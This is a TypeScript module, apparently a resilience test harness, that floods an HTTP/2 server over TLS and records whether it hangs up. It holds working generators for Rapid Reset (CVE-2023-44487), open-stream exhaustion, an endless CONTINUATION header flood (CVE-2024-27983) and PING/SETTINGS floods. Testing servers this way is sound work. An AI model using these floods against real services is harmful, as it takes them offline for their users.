import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { connectTls, type Endpoint } from '../wire/endpoint.ts';
import { endHeaders, endStream, frame, frameType, greeting, headerBlock, postBlock } from '../wire/frames.ts';

export interface FloodOutcome {
  /** The server hung up, or said that it would (GOAWAY), before the flood or the patience was over. */
  readonly ended: boolean;
  /** Types of the frames that came back, with how often. */
  readonly heard: ReadonlyMap<number, number>;
}

/** Writes frames over one HTTP/2 connection, as fast as they are taken, and then waits `patienceMs` for the end. */
export async function flood(endpoint: Endpoint, frames: Iterable<Buffer>, patienceMs: number): Promise<FloodOutcome> {
  const socket = await connectTls(endpoint, 'h2');
  const heard = new Map<number, number>();
  let pending = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
      const type = pending[3] ?? 0;
      heard.set(type, (heard.get(type) ?? 0) + 1);
      pending = pending.subarray(9 + pending.readUIntBE(0, 3));
    }
  });
  const closed = new Promise<void>((done) => socket.once('close', () => done()));
  const over = () => socket.destroyed || socket.readableEnded || heard.has(frameType.goaway);
  socket.write(greeting);
  let batch: Buffer[] = [];
  const flush = async () => {
    const taken = socket.write(Buffer.concat(batch));
    batch = [];
    // Also lets what the server says be heard.
    if (taken) await delay(0);
    else await Promise.race([once(socket, 'drain').catch(() => {}), closed, delay(patienceMs)]);
  };
  for (const bytes of frames) {
    if (over()) break;
    batch.push(bytes);
    if (batch.length >= 50) await flush();
  }
  if (!over() && batch.length > 0) await flush();
  for (const until = performance.now() + patienceMs; !over() && performance.now() < until; ) await delay(20);
  const ended = over();
  socket.destroy();
  return { ended, heard };
}

const block = postBlock('/version/v1/tan', [['content-type', 'application/json']]);
const cancel = Buffer.of(0, 0, 0, 8);

/** Requests that are taken back at once (CVE-2023-44487). */
export function* rapidResets(count: number): Generator<Buffer> {
  for (let id = 1; id < 2 * count; id += 2) {
    yield Buffer.concat([
      frame(frameType.headers, endStream | endHeaders, id, block),
      frame(frameType.rstStream, 0, id, cancel),
    ]);
  }
}

/** Requests whose bodies never come. */
export function* openStreams(count: number): Generator<Buffer> {
  for (let id = 1; id < 2 * count; id += 2) yield frame(frameType.headers, endHeaders, id, block);
}

/** A head that never ends (CVE-2024-27983 and its kin). */
export function* endlessHead(count: number): Generator<Buffer> {
  yield frame(frameType.headers, endStream, 1, block);
  const more = headerBlock(Array.from({ length: 60 }, (_, i) => [`x-${i}`, 'y'.repeat(120)] as const));
  for (let i = 0; i < count; i++) yield frame(frameType.continuation, 0, 1, more);
}

export function* repeated(count: number, bytes: Buffer): Generator<Buffer> {
  for (let i = 0; i < count; i++) yield bytes;
}

export const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));
export const settings = frame(frameType.settings, 0, 0, Buffer.from('000400010000', 'hex'));
